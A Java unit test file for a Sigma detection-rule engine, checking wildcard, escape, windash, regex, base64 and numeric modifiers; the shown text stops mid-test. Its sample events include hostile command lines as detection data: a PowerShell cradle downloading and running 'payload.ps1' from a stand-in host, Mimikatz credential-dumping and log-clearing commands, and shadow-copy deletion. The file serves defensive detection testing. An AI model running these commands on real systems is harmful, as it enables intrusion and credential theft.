package io.vigil.sigma.rule;

import static io.vigil.sigma.rule.RuleFixture.compile;
import static io.vigil.sigma.rule.RuleFixture.error;
import static io.vigil.sigma.rule.RuleFixture.ev;
import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.sigma.rule.RuleFixture.Compiled;
import io.vigil.sigma.rule.RuleLoader.RuleError;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * Each value modifier of the Sigma modifiers appendix (v2.1.0), and the value rules of the
 * specification's Detection section (wildcards, escapes, special values, placeholders, keywords),
 * checked against the sentence of the specification quoted above each test, with an event that
 * matches and one that does not.
 *
 * <p>Java string literals double every backslash: {@code "C:\\Windows"} is the Sigma value
 * {@code C:\Windows}. The comments write values as they appear in the YAML.
 */
class ModifiersSpecTest {

    /** A rule whose one selection holds {@code key} with the values (one: a single value, several: a list); condition: selection. */
    private static Compiled field(String key, String... values) {
        return compile(body(key, values));
    }

    private static Compiled field(Map<String, List<String>> placeholders, String key, String... values) {
        return compile(body(key, values), placeholders);
    }

    private static String body(String key, String... values) {
        StringBuilder b = new StringBuilder("selection:\n    ").append(key).append(':');
        if (values.length == 1) {
            b.append(' ').append(q(values[0])).append('\n');
        } else {
            b.append('\n');
            for (String v : values) b.append("        - ").append(q(v)).append('\n');
        }
        return b.append("condition: selection\n").toString();
    }

    /** A YAML single-quoted scalar: backslashes stay as written, a quote is doubled. */
    private static String q(String v) {
        return "'" + v.replace("'", "''") + "'";
    }

    private static Map<String, String> f(String value) {
        return ev("F", value);
    }

    private static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    private static String b64(String s) {
        return b64(s.getBytes(StandardCharsets.UTF_8));
    }

    // ------------------------------------------------------------------------- String Wildcard

    @Test
    void questionMarkReplacesOneMandatoryCharacter() {
        // "`?` to replace a single mandatory character." / "`progA.exe or progB.exe or ...` will be `prog?.exe`"
        Compiled r = field("Image", "prog?.exe");
        assertThat(r.matches(ev("Image", "progA.exe"))).isTrue();
        assertThat(r.matches(ev("Image", "progB.exe"))).isTrue();
        assertThat(r.matches(ev("Image", "prog.exe"))).as("mandatory: zero characters do not match").isFalse();
        assertThat(r.matches(ev("Image", "progAB.exe"))).as("single: two characters do not match").isFalse();
    }

    @Test
    void starReplacesAnUnboundedRun() {
        // "`*` to replace an unbounded length wildcard." / "`antivirus_V1.exe or antivirus_V21.2.1.exe or ...` will be `antivirus_V*.exe`"
        Compiled r = field("Image", "antivirus_V*.exe");
        assertThat(r.matches(ev("Image", "antivirus_V1.exe"))).isTrue();
        assertThat(r.matches(ev("Image", "antivirus_V21.2.1.exe"))).isTrue();
        assertThat(r.matches(ev("Image", "antivirus_V.exe"))).as("unbounded includes the empty run").isTrue();
        assertThat(r.matches(ev("Image", "antivirus_V1.dll"))).isFalse();
        assertThat(r.matches(ev("Image", "x_antivirus_V1.exe"))).as("no implicit wildcard before the value").isFalse();
    }

    @Test
    void valuesAreCaseInsensitiveAndMatchTheWholeField() {
        // "All values are treated as case-insensitive strings."
        Compiled r = field("Image", "cmd.exe");
        assertThat(r.matches(ev("Image", "CMD.EXE"))).isTrue();
        assertThat(r.matches(ev("Image", "Cmd.Exe"))).isTrue();
        // "*something" is what endswith replaces: without a wildcard, the value is the whole field
        assertThat(r.matches(ev("Image", "C:\\Windows\\System32\\cmd.exe"))).isFalse();
        assertThat(r.matches(ev("Image", "cmd.exe "))).isFalse();
    }

    // ------------------------------------------------------------------------- Escape Character

    @Test
    void plainBackslashIsWrittenSingleOrDouble() {
        // "Plain backslash not followed by a wildcard can be expressed as single `\` or double backslash `\\`."
        for (String value : List.of("C:\\Windows\\System32\\cmd.exe", "C:\\\\Windows\\\\System32\\\\cmd.exe")) {
            Compiled r = field("Image", value);
            assertThat(r.matches(ev("Image", "C:\\Windows\\System32\\cmd.exe"))).as(value).isTrue();
            assertThat(r.matches(ev("Image", "c:\\windows\\system32\\CMD.EXE"))).as(value).isTrue();
            assertThat(r.matches(ev("Image", "C:\\Windows\\SysWOW64\\cmd.exe"))).as(value).isFalse();
            assertThat(r.matches(ev("Image", "C:\\\\Windows\\\\System32\\\\cmd.exe"))).as(value + " against a doubled path").isFalse();
        }
    }

    @Test
    void trailingBackslashIsPlain() {
        // as SigmaHQ writes it: Image|startswith: 'C:\Program Files\' (a plain backslash, not followed by a wildcard)
        Compiled r = field("Image|startswith", "C:\\Program Files\\");
        assertThat(r.matches(ev("Image", "C:\\Program Files\\App\\app.exe"))).isTrue();
        assertThat(r.matches(ev("Image", "C:\\Program Files (x86)\\App\\app.exe"))).isFalse();
    }

    @Test
    void escapedWildcardsArePlainCharacters() {
        // "A wildcard has to be escaped to be handled as a plain character. eg: `\*`, `\?`."
        Compiled star = field("F", "report\\*.txt"); // report\*.txt
        assertThat(star.matches(f("report*.txt"))).isTrue();
        assertThat(star.matches(f("report1.txt"))).isFalse();
        assertThat(star.matches(f("report\\1.txt"))).as("not a backslash followed by a wildcard").isFalse();

        Compiled question = field("F", "what\\?"); // what\?
        assertThat(question.matches(f("what?"))).isTrue();
        assertThat(question.matches(f("whatX"))).isFalse();
        assertThat(question.matches(f("what\\X"))).isFalse();

        // C:\Temp\* is the plain text C:\Temp* (the backslash escapes the star)
        Compiled temp = field("F", "C:\\Temp\\*");
        assertThat(temp.matches(f("C:\\Temp*"))).isTrue();
        assertThat(temp.matches(f("C:\\Temp\\evil.exe"))).isFalse();
    }

    @Test
    void escapedBackslashBeforeAWildcard() {
        // "The backslash before a wildcard has to be escaped to handle the value as a backslash followed by a wildcard: `\\*`."
        Compiled r = field("F", "C:\\Temp\\\\*"); // C:\Temp\\*
        assertThat(r.matches(f("C:\\Temp\\evil.exe"))).isTrue();
        assertThat(r.matches(f("C:\\Temp\\"))).isTrue();
        assertThat(r.matches(f("C:\\Temp*"))).isFalse();
        assertThat(r.matches(f("C:\\Tempo\\evil.exe"))).isFalse();

        Compiled q = field("F", "dir\\\\?"); // dir\\? : a backslash and one character
        assertThat(q.matches(f("dir\\a"))).isTrue();
        assertThat(q.matches(f("dir\\ab"))).isFalse();
        assertThat(q.matches(f("dir?"))).isFalse();
    }

    @Test
    void threeBackslashesEscapeBothTheBackslashAndTheWildcard() {
        // "Three backslashes are necessary to escape both, the backslash and the wildcard and handle them as plain values: `\\\*`."
        Compiled r = field("F", "a\\\\\\*"); // a\\\*
        assertThat(r.matches(f("a\\*"))).isTrue();
        assertThat(r.matches(f("a\\b"))).isFalse();
        assertThat(r.matches(f("a\\\\*"))).isFalse();
    }

    @Test
    void threeOrFourBackslashesAreADoubleBackslash() {
        // "Three or four backslashes are handled as double backslash. Four is recommended for consistency reasons:
        //  `\\\\` results in the plain value `\\`."
        for (String value : List.of("\\\\\\\\server\\share", "\\\\\\server\\share")) { // \\\\server\share and \\\server\share
            Compiled r = field("F", value);
            assertThat(r.matches(f("\\\\server\\share"))).as(value).isTrue();
            assertThat(r.matches(f("\\server\\share"))).as(value).isFalse();
            assertThat(r.matches(f("\\\\\\server\\share"))).as(value).isFalse();
        }
    }

    // ------------------------------------------------------------------------- Special Field Values

    @Test
    void nullIsAnAbsentFieldAndEmptyIsAnEmptyValue() {
        // "An empty value is defined with `''`" / "A null value is defined with `null`"
        Compiled isNull = compile("""
                selection:
                    FieldB: null
                condition: selection
                """);
        assertThat(isNull.matches(ev("FieldA", "x"))).isTrue();
        assertThat(isNull.matches(ev("FieldB", ""))).as("empty is not null").isFalse();
        assertThat(isNull.matches(ev("FieldB", "x"))).isFalse();

        Compiled isEmpty = field("FieldB", "");
        assertThat(isEmpty.matches(ev("FieldB", ""))).isTrue();
        assertThat(isEmpty.matches(ev("FieldA", "x"))).as("an absent field is not empty").isFalse();
        assertThat(isEmpty.matches(ev("FieldB", " "))).isFalse();
    }

    @Test
    void specificationsValidNullExample() {
        // "Valid Example: ... condition: selection_main and 1 of selection_empty*"
        Compiled r = compile("""
                selection_main:
                    FieldA: 'something'
                selection_empty1:
                    FieldB: ''
                selection_empty2:
                    FieldB: null
                condition: selection_main and 1 of selection_empty*
                """);
        assertThat(r.matches(ev("FieldA", "something"))).isTrue();
        assertThat(r.matches(ev("FieldA", "something", "FieldB", ""))).isTrue();
        assertThat(r.matches(ev("FieldA", "something", "FieldB", "value"))).isFalse();
        assertThat(r.matches(ev("FieldA", "other"))).isFalse();
    }

    @Test
    void notNullIsANegatedSelection() {
        // "To get an expression that says `not null` you have to create another selection and negate it in the condition."
        Compiled r = compile("""
                selection:
                    EventID: 4738
                filter:
                    PasswordLastSet: null
                condition: selection and not filter
                """);
        assertThat(r.matches(ev("EventID", "4738", "PasswordLastSet", "2024-01-01"))).isTrue();
        assertThat(r.matches(ev("EventID", "4738", "PasswordLastSet", ""))).as("empty is present, hence not null").isTrue();
        assertThat(r.matches(ev("EventID", "4738"))).isFalse();
    }

    // ------------------------------------------------------------------------- exists

    @Test
    void existsTrue() {
        // "`exists`: Defines that a certain field has to exist or must not exist in a log event by providing a boolean value.
        //  Note that this check only verifies the presence of a field, not its value, be it empty or null."
        Compiled r = compile("""
                selection:
                    EventID: 4738
                    PasswordLastSet|exists: true
                condition: selection
                """);
        assertThat(r.matches(ev("EventID", "4738", "PasswordLastSet", "2024-01-01"))).isTrue();
        assertThat(r.matches(ev("EventID", "4738", "PasswordLastSet", ""))).as("present though empty").isTrue();
        assertThat(r.matches(ev("EventID", "4738"))).isFalse();
    }

    @Test
    void existsFalse() {
        // "... or must not exist in a log event by providing a boolean value."
        Compiled r = compile("""
                selection:
                    PasswordLastSet|exists: false
                condition: selection
                """);
        assertThat(r.matches(ev("EventID", "4738"))).isTrue();
        assertThat(r.matches(ev("PasswordLastSet", ""))).isFalse();
        assertThat(r.matches(ev("PasswordLastSet", "x"))).isFalse();
    }

    // ------------------------------------------------------------------------- all, lists, keywords

    @Test
    void listValuesAreLinkedWithOr() {
        // "Normally, lists of values are linked with *OR* in the generated query."
        Compiled r = compile("""
                selection:
                    EventLog: Security
                    EventID:
                        - 517
                        - 1102
                condition: selection
                """);
        assertThat(r.matches(ev("EventLog", "Security", "EventID", "517"))).isTrue();
        assertThat(r.matches(ev("EventLog", "security", "EventID", "1102"))).isTrue();
        assertThat(r.matches(ev("EventLog", "Security", "EventID", "4624"))).isFalse();
        assertThat(r.matches(ev("EventLog", "System", "EventID", "517"))).isFalse();
    }

    @Test
    void allLinksTheValuesWithAnd() {
        // "`all`: ... This modifier changes this to *AND*. This is useful if you want to express a command line invocation with
        //  different parameters where the order may vary"
        Compiled r = field("CommandLine|contains|all", "Set-OabVirtualDirectory", " -ExternalUrl ");
        assertThat(r.matches(ev("CommandLine", "Set-OabVirtualDirectory -ExternalUrl 'http://x' -Identity y"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "x -ExternalUrl y; Set-OabVirtualDirectory"))).as("order may vary").isTrue();
        assertThat(r.matches(ev("CommandLine", "Set-OabVirtualDirectory -InternalUrl x"))).isFalse();
    }

    @Test
    void keywordsListIsOrOverTheWholeLogLine() {
        // "Give : "event::clear" **or** "event::drop"" (keywords are searched across an entire event)
        Compiled r = compile("""
                mimikatz_keywords:
                    - 'event::clear'
                    - 'event::drop'
                condition: mimikatz_keywords
                """);
        assertThat(r.matchesLine("mimikatz # EVENT::Clear done")).isTrue();
        assertThat(r.matchesLine("x event::drop")).isTrue();
        assertThat(r.matchesLine("mimikatz # event::list")).isFalse();
    }

    @Test
    void keywordsAllForm() {
        // "To have a **and** operator , we use the `'|all':` modifier" / "Give : "OabVirtualDirectory" **and** " -ExternalUrl ""
        Compiled r = compile("""
                keywords_cmdlet:
                    '|all':
                        - 'OabVirtualDirectory'
                        - ' -ExternalUrl '
                condition: keywords_cmdlet
                """);
        assertThat(r.matchesLine("Set-OabVirtualDirectory -ExternalUrl https://x")).isTrue();
        assertThat(r.matchesLine("Set-OabVirtualDirectory -InternalUrl https://x")).isFalse();
        assertThat(r.matchesLine("Set-Mailbox -ExternalUrl https://x")).isFalse();
    }

    @Test
    void allKeepsTheVariantsOfOneValueAlternatives() {
        // "`all`: Normally, lists of values are linked with *OR* ... This modifier changes this to *AND*": AND is between the
        // values of the list. windash "uses all possible permutation of strings", and base64offset has "three variants": those
        // are alternative forms of one value, so with all each value must appear in one of its forms, not in all of them.
        Compiled dash = field("CommandLine|windash|contains|all", "-nop", "-enc");
        assertThat(dash.matches(ev("CommandLine", "powershell /nop -enc AAAA"))).isTrue();
        assertThat(dash.matches(ev("CommandLine", "powershell \u2013nop \u2014enc AAAA"))).isTrue();
        assertThat(dash.matches(ev("CommandLine", "powershell /nop AAAA"))).isFalse();

        Compiled enc = field("CommandLine|base64offset|contains|all", "Invoke-Expression", "DownloadString");
        assertThat(enc.matches(ev("CommandLine", "powershell -enc " + b64("x; Invoke-Expression (y.DownloadString('http://e'))")))).isTrue();
        assertThat(enc.matches(ev("CommandLine", "powershell -enc " + b64("xy; Invoke-Expression (Get-Content z)")))).isFalse();
    }

    // ------------------------------------------------------------------------- startswith, endswith, contains

    @Test
    void startswith() {
        // "`startswith`: The value is expected at the beginning of the field's content. (replaces e.g. 'adm*')"
        Compiled r = field("User|startswith", "adm");
        assertThat(r.matches(ev("User", "Administrator"))).isTrue();
        assertThat(r.matches(ev("User", "adm"))).isTrue();
        assertThat(r.matches(ev("User", "sysadm"))).isFalse();
        assertThat(r.matches(ev("Other", "adm"))).isFalse();
    }

    @Test
    void endswith() {
        // "`endswith`: The value is expected at the end of the field's content (replaces e.g. '*\cmd.exe')"
        Compiled r = field("Image|endswith", "\\cmd.exe");
        assertThat(r.matches(ev("Image", "C:\\Windows\\System32\\CMD.exe"))).isTrue();
        assertThat(r.matches(ev("Image", "C:\\Tools\\notcmd.exe"))).isFalse();
        assertThat(r.matches(ev("Image", "C:\\Windows\\System32\\cmd.exe.bak"))).isFalse();
    }

    @Test
    void contains() {
        // "`contains`: Puts `*` wildcards around the values, such that the value is matched anywhere in the field."
        Compiled r = field("CommandLine|contains", "Invoke-Mimikatz");
        assertThat(r.matches(ev("CommandLine", "powershell invoke-mimikatz -DumpCreds"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "Invoke-Mimikatz"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "powershell Invoke-Mimi katz"))).isFalse();
        // the values keep their own wildcards
        Compiled w = field("CommandLine|contains", "net? user");
        assertThat(w.matches(ev("CommandLine", "cmd /c net1 user x /add"))).isTrue();
        assertThat(w.matches(ev("CommandLine", "cmd /c net user x /add"))).isFalse();
    }

    // ------------------------------------------------------------------------- cased

    @Test
    void cased() {
        // "`cased`: Values are applied case sensitively. Default Sigma behavior is case-insensitive matching."
        Compiled exact = field("F|cased", "CmD");
        assertThat(exact.matches(f("CmD"))).isTrue();
        assertThat(exact.matches(f("cmd"))).isFalse();
        Compiled cont = field("F|contains|cased", "Mimikatz");
        assertThat(cont.matches(f("x Mimikatz y"))).isTrue();
        assertThat(cont.matches(f("x mimikatz y"))).isFalse();
        Compiled wild = field("F|cased", "A?c*");
        assertThat(wild.matches(f("Abcdef"))).isTrue();
        assertThat(wild.matches(f("abcdef"))).isFalse();
        // and the default stays case-insensitive
        assertThat(field("F|contains", "Mimikatz").matches(f("x MIMIKATZ y"))).isTrue();
    }

    // ------------------------------------------------------------------------- neq

    @Test
    void neq() {
        // "`neq`: The field is different from the specified values."
        Compiled r = field("User|neq", "SYSTEM");
        assertThat(r.matches(ev("User", "admin"))).isTrue();
        assertThat(r.matches(ev("User", "system"))).as("case-insensitive like every comparison").isFalse();
        // Ambiguous: the specification does not say whether an absent field is "different". Vigil decides no: neq
        // compares a value, and an absent field has none (use `not` over a selection, or exists, for absence).
        assertThat(r.matches(ev("Other", "x"))).isFalse();

        Compiled list = field("User|neq", "SYSTEM", "LOCAL SERVICE");
        assertThat(list.matches(ev("User", "admin"))).isTrue();
        assertThat(list.matches(ev("User", "local service"))).as("different from every value").isFalse();
        assertThat(list.matches(ev("User", "SYSTEM"))).isFalse();

        // numeric modifiers: "`neq`: Field is not equal than the value"
        Compiled num = field("EventID|neq", "4624");
        assertThat(num.matches(ev("EventID", "4625"))).isTrue();
        assertThat(num.matches(ev("EventID", "4624"))).isFalse();
    }

    // ------------------------------------------------------------------------- windash

    private static final String[] DASHES = {"-", "/", "\u2013", "\u2014", "\u2015"}; // -, /, en dash, em dash, horizontal bar

    @Test
    void windashAcceptsEveryDash() {
        // "`windash`: Creates all possible permutations of the `-`, `/`, `–` (en dash), `—` (em dash), and `―` (horizontal bar)
        //  characters."
        for (String written : DASHES) {
            Compiled r = field("CommandLine|windash|contains", " " + written + "enc ");
            for (String d : DASHES) assertThat(r.matches(ev("CommandLine", "powershell " + d + "enc SQBFAFgA"))).as(written + " vs " + d).isTrue();
            assertThat(r.matches(ev("CommandLine", "powershell +enc SQBFAFgA"))).isFalse();
            assertThat(r.matches(ev("CommandLine", "powershell enc SQBFAFgA"))).isFalse();
            assertThat(r.matches(ev("CommandLine", "powershell _enc SQBFAFgA"))).isFalse();
        }
    }

    @Test
    void windashMakesEveryPermutation() {
        // "Using the `windash` modifier converts the aforementioned characters interchangeably and uses all possible permutation
        //  of strings in the selection."
        Compiled r = field("CommandLine|windash|contains", "-nop -w hidden");
        for (String a : DASHES) {
            for (String b : DASHES) assertThat(r.matches(ev("CommandLine", "powershell.exe " + a + "nop " + b + "w hidden x"))).isTrue();
        }
        assertThat(r.matches(ev("CommandLine", "powershell.exe -nop w hidden"))).isFalse();
        assertThat(r.matches(ev("CommandLine", "powershell.exe -nop -w normal"))).isFalse();
        // as SigmaHQ writes it: the compare modifier before windash
        Compiled node = field("CommandLine|contains|windash", "/node:");
        assertThat(node.matches(ev("CommandLine", "wmic -node:10.0.0.5 process call create x"))).isTrue();
        assertThat(node.matches(ev("CommandLine", "wmic node:10.0.0.5 process call create x"))).isFalse();
    }

    // ------------------------------------------------------------------------- re

    @Test
    void reIsCaseSensitiveByDefault() {
        // "`re`: Value is handled as a regular expression by backends. Regex is matched case-sensitive by default."
        Compiled r = field("CommandLine|re", "IEX\\s*\\(");
        assertThat(r.matches(ev("CommandLine", "powershell IEX (New-Object Net.WebClient)"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "powershell iex (New-Object Net.WebClient)"))).isFalse();
        // Ambiguous: the specification does not say whether the expression must match the whole field. Vigil searches
        // (as PCRE's match does): the expression anchors itself with ^ and $ when it means to.
        Compiled anchored = field("CommandLine|re", "^IEX");
        assertThat(anchored.matches(ev("CommandLine", "IEX x"))).isTrue();
        assertThat(anchored.matches(ev("CommandLine", "x IEX"))).isFalse();
    }

    @Test
    void reSupportsTheListedMetacharacters() {
        // "Wildcards: `.`. Anchors: `^`, `$`. Quantifiers: `*`, `+`, `?`, `{n,m}`. Character Classes: [a-z], [^a-z].
        //  Alternation: `|`. Grouping: `()`."
        Compiled r = field("F|re", "^(cmd|powershell)\\.exe [a-z]{2,3}[^a-z]+x?y*.$");
        assertThat(r.matches(f("powershell.exe ab12yyz"))).isTrue();
        assertThat(r.matches(f("cmd.exe abc3xz"))).isTrue();
        assertThat(r.matches(f("cmd.exe abcd3z"))).isFalse();
        assertThat(r.matches(f("wscript.exe ab12z"))).isFalse();
    }

    @Test
    void reSubModifierI() {
        // "`i`: (insensitive) to enable case-insensitive matching."
        Compiled r = field("CommandLine|re|i", "IEX\\s*\\(");
        assertThat(r.matches(ev("CommandLine", "powershell iex (x)"))).isTrue();
        assertThat(r.matches(ev("CommandLine", "powershell iex x"))).isFalse();
    }

    @Test
    void reSubModifierM() {
        // "`m`: (multi line) to match across multiple lines. `^` /`$` match the start/end of line."
        String text = "first line\nsecond\nthird";
        assertThat(field("F|re|m", "^second$").matches(f(text))).isTrue();
        assertThat(field("F|re|m", "^secon$").matches(f(text))).isFalse();
        assertThat(field("F|re", "^second$").matches(f(text))).as("without m, ^ and $ are the ends of the field").isFalse();
    }

    @Test
    void reSubModifierS() {
        // "`s`: (single line) to enable that dot (`.`) matches all characters, including the newline character."
        String text = "begin\nend";
        assertThat(field("F|re|s", "begin.end").matches(f(text))).isTrue();
        assertThat(field("F|re|s", "begin.end").matches(f("begin\n\nend"))).isFalse();
        assertThat(field("F|re", "begin.end").matches(f(text))).as("without s, dot stops at the newline").isFalse();
        // sub-modifiers combine
        assertThat(field("F|re|i|s|m", "^BEGIN.END$").matches(f("x\nbegin\nend\ny"))).isTrue();
    }

    // ------------------------------------------------------------------------- base64, base64offset, utf16*

    @Test
    void base64() {
        // "`base64`: The value is encoded with Base64."
        Compiled r = field("Data|base64", "cmd");
        assertThat(r.matches(ev("Data", b64("cmd")))).isTrue(); // Y21k
        assertThat(r.matches(ev("Data", b64("cmd.exe")))).isFalse();
        assertThat(r.matches(ev("Data", "cmd"))).isFalse();
        // the whole value is encoded, padding included: inside a longer text it is found at offset 0 when its length is a
        // multiple of three (what base64offset is for otherwise)
        Compiled c = field("CommandLine|base64|contains", "https:"); // aHR0cHM6
        assertThat(c.matches(ev("CommandLine", "powershell -e " + b64("https://evil.example/x")))).isTrue();
        assertThat(c.matches(ev("CommandLine", "powershell -e " + b64("http://evil.example/x")))).isFalse();
        Compiled padded = field("CommandLine|base64|contains", "http://"); // aHR0cDovLw==
        assertThat(padded.matches(ev("CommandLine", "x " + b64("http://") + " y"))).isTrue();
        assertThat(padded.matches(ev("CommandLine", "x " + b64("http://evil.example/x")))).isFalse();
        // an encoded value is data, not a pattern: a star in the value is encoded like any other character
        Compiled star = field("Data|base64", "a*");
        assertThat(star.matches(ev("Data", b64("a*")))).isTrue();
        assertThat(star.matches(ev("Data", b64("ab")))).isFalse();
    }

    @Test
    void base64offsetHasThreeVariants() {
        // "There are three variants for shifts by zero to two bytes"
        assertThat(Modifiers.base64Offsets("http://".getBytes(StandardCharsets.UTF_8))).hasSize(3);
    }

    @Test
    void base64offsetFindsTheValueAtEveryOffset() {
        // "`base64offset`: If a value might appear somewhere in a base64-encoded string the representation might change depending
        //  on the position of the value in the overall string. There are three variants for shifts by zero to two bytes and
        //  except the first and last byte the encoded values have a static part in the middle that can be recognized."
        Compiled r = field("CommandLine|base64offset|contains", "http://evil.example");
        String before = "powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('";
        String after = "/payload.ps1')";
        int checked = 0;
        for (int p = 0; p <= 8; p++) {
            for (int s = 0; s <= 4; s++) {
                String plain = before.substring(before.length() - p) + "http://evil.example" + after.substring(0, s);
                assertThat(r.matches(ev("CommandLine", "powershell -enc " + b64(plain)))).as("offset %d, %d after", p, s).isTrue();
                String other = before.substring(before.length() - p) + "http://good.example" + after.substring(0, s);
                assertThat(r.matches(ev("CommandLine", "powershell -enc " + b64(other)))).as("offset %d, %d after", p, s).isFalse();
                checked++;
            }
        }
        assertThat(checked).isEqualTo(45);
        // the plain text is not base64
        assertThat(r.matches(ev("CommandLine", "curl http://evil.example"))).isFalse();
    }

    @Test
    void utf16leBase64offsetContainsAsRealRulesUseIt() {
        // "`utf16le`: Transforms value to UTF16-LE encoding" then base64offset, as in SigmaHQ's
        // proc_creation_win_base64_listing_shadowcopy.yml: CommandLine|utf16le|base64offset|contains
        String value = "Win32_Shadowcopy | ForEach-Object";
        for (String key : List.of("CommandLine|utf16le|base64offset|contains", "CommandLine|wide|base64offset|contains")) {
            Compiled r = field(key, value);
            for (String before : List.of("", "G", "Ge", "Get", "Get-", "Get-W", "Get-WmiObject ")) {
                String script = before + value + " { $_.Delete() }";
                // powershell -EncodedCommand takes base64 of UTF-16LE; a character is two bytes, so the offsets cycle 0, 2, 1
                String enc = b64(script.getBytes(StandardCharsets.UTF_16LE));
                assertThat(r.matches(ev("CommandLine", "powershell.exe -EncodedCommand " + enc))).as(key + " after '" + before + "'").isTrue();
                String utf8 = b64(script.getBytes(StandardCharsets.UTF_8));
                assertThat(r.matches(ev("CommandLine", "powershell.exe -EncodedCommand " + utf8))).as("UTF-8 is not UTF-16LE").isFalse();
                String other = b64((before + "Win32_Process | ForEach-Object { $_.Delete() }").getBytes(StandardCharsets.UTF_16LE));
                assertThat(r.matches(ev("CommandLine", "powershell.exe -EncodedCommand " + other))).isFalse();
            }
        }
    }

    @Test
    void utf16EncodingsAsTheSpecificationSpellsTheBytes() {
        // "`utf16le`: Transforms value to UTF16-LE encoding, e.g. `cmd` > `63 00 6d 00 64 00`"
        byte[] le = {0x63, 0x00, 0x6d, 0x00, 0x64, 0x00};
        // "`utf16be`: Transforms value to UTF16-BE encoding, e.g. `cmd` > `00 63 00 6d 00 64`"
        byte[] be = {0x00, 0x63, 0x00, 0x6d, 0x00, 0x64};
        // "`utf16`: Prepends a byte order mark and encodes UTF16, e.g. `cmd` > `FF FE 63 00 6d 00 64 00`"
        byte[] bom = {(byte) 0xFF, (byte) 0xFE, 0x63, 0x00, 0x6d, 0x00, 0x64, 0x00};
        // "`wide`: an alias for the `utf16le` modifier."
        Map<String, byte[]> byKey = Map.of("Data|utf16le|base64", le, "Data|wide|base64", le, "Data|utf16be|base64", be, "Data|utf16|base64", bom);
        List<byte[]> all = List.of(le, be, bom);
        byKey.forEach((key, bytes) -> {
            Compiled r = field(key, "cmd");
            assertThat(r.matches(ev("Data", b64(bytes)))).as(key).isTrue();
            for (byte[] other : all) {
                if (other != bytes) assertThat(r.matches(ev("Data", b64(other)))).as(key).isFalse();
            }
            assertThat(r.matches(ev("Data", b64("cmd")))).as(key + " against UTF-8").isFalse();
        });
    }

    // ------------------------------------------------------------------------- numeric

    @Test
    void numericComparisons() {
        // "`lt`: Field is less than the value" / "`lte`: Field is less or equal than the value"
        // "`gt`: Field is greater than the value" / "`gte`: Field is greater or equal than the value"
        Compiled lt = field("N|lt", "10");
        Compiled lte = field("N|lte", "10");
        Compiled gt = field("N|gt", "10");
        Compiled gte = field("N|gte", "10");
        assertThat(lt.matches(ev("N", "9"))).isTrue();
        assertThat(lt.matches(ev("N", "10"))).isFalse();
        assertThat(lte.matches(ev("N", "10"))).isTrue();
        assertThat(lte.matches(ev("N", "11"))).isFalse();
        assertThat(gt.matches(ev("N", "11"))).isTrue();
        assertThat(gt.matches(ev("N", "10"))).isFalse();
        assertThat(gte.matches(ev("N", "10"))).isTrue();
        assertThat(gte.matches(ev("N", "9"))).isFalse();
        // numbers, not strings: "9" > "10" as text, not as numbers; 100 > 10 with more digits
        assertThat(gt.matches(ev("N", "9"))).isFalse();
        assertThat(gt.matches(ev("N", "100"))).isTrue();
        assertThat(lt.matches(ev("N", "9.5"))).isTrue();
        assertThat(gt.matches(ev("N", "10.01"))).isTrue();
        assertThat(lt.matches(ev("N", "-20"))).isTrue();
        Compiled neg = field("N|gt", "-1.5");
        assertThat(neg.matches(ev("N", "0"))).isTrue();
        assertThat(neg.matches(ev("N", "-2"))).isFalse();
        // Windows writes many numbers in hex (Numbers: "decimal, or hex with 0x")
        assertThat(gt.matches(ev("N", "0x10"))).isTrue();
        assertThat(lt.matches(ev("N", "0x10"))).isFalse();
    }

    @Test
    void numericModifiersApplyToNumbersOnly() {
        // "The modifiers listed in this section can only be applied to numeric values."
        Compiled lt = field("N|lt", "10");
        Compiled gt = field("N|gt", "10");
        // a field that is not a number is neither less nor greater than one. Java's Double.parseDouble reads "5f" and "5d"
        // as 5 and knows NaN and Infinity; none of these is a number in an event.
        for (String notANumber : List.of("abc", "", " ", "5f", "5d", "11F", "11D", "NaN", "Infinity", "-Infinity", "0x", "1 000")) {
            assertThat(lt.matches(ev("N", notANumber))).as("'" + notANumber + "' < 10").isFalse();
            assertThat(gt.matches(ev("N", notANumber))).as("'" + notANumber + "' > 10").isFalse();
        }
        assertThat(gt.matches(ev("M", "11"))).as("absent").isFalse();
        // and the rule's value must be a number
        RuleError e = error("""
                selection:
                    N|gt: ten
                condition: selection
                """);
        assertThat(e.line()).isEqualTo(RuleFixture.HEADER + 2);
        assertThat(e.message()).contains("gt needs a number");
        assertThat(error("""
                selection:
                    N|gt: 10f
                condition: selection
                """).message()).contains("gt needs a number");
    }

    // ------------------------------------------------------------------------- time

    @Test
    void timeModifiersTakeANumberFromADate() {
        // "The modifiers listed in this section can only be applied to date values. it extracts a numeric value from a date."
        String t = "2024-03-05T10:20:30Z"; // a Tuesday, ISO week 10
        // "`minute`: number between 0 and 59."
        assertThat(field("T|minute", "20").matches(ev("T", t))).isTrue();
        assertThat(field("T|minute", "30").matches(ev("T", t))).isFalse();
        // "`hour`: number between 0 and 23."
        assertThat(field("T|hour", "10").matches(ev("T", t))).isTrue();
        assertThat(field("T|hour", "20").matches(ev("T", t))).isFalse();
        // "`day`: number between 1 and 31."
        assertThat(field("T|day", "5").matches(ev("T", t))).isTrue();
        assertThat(field("T|day", "3").matches(ev("T", t))).isFalse();
        // "`week`: number between 1 and 52."
        assertThat(field("T|week", "10").matches(ev("T", t))).isTrue();
        assertThat(field("T|week", "9").matches(ev("T", t))).isFalse();
        // "`month`: number between 1 and 12."
        assertThat(field("T|month", "3").matches(ev("T", t))).isTrue();
        assertThat(field("T|month", "5").matches(ev("T", t))).isFalse();
        // "`year`: number of the year"
        assertThat(field("T|year", "2024").matches(ev("T", t))).isTrue();
        assertThat(field("T|year", "2023").matches(ev("T", t))).isFalse();
        // a list of values is OR as for any field
        assertThat(field("T|hour", "9", "10", "11").matches(ev("T", t))).isTrue();
        // a value that is not a date gives no number
        assertThat(field("T|hour", "10").matches(ev("T", "10"))).isFalse();
        assertThat(field("T|hour", "10").matches(ev("U", t))).isFalse();
    }

    @Test
    void timeModifiersWithComparisons() {
        // time parts are numbers, so the numeric comparisons apply: activity between 22:00 and 05:59
        Compiled night = compile("""
                late:
                    T|hour|gte: 22
                early:
                    T|hour|lt: 6
                condition: late or early
                """);
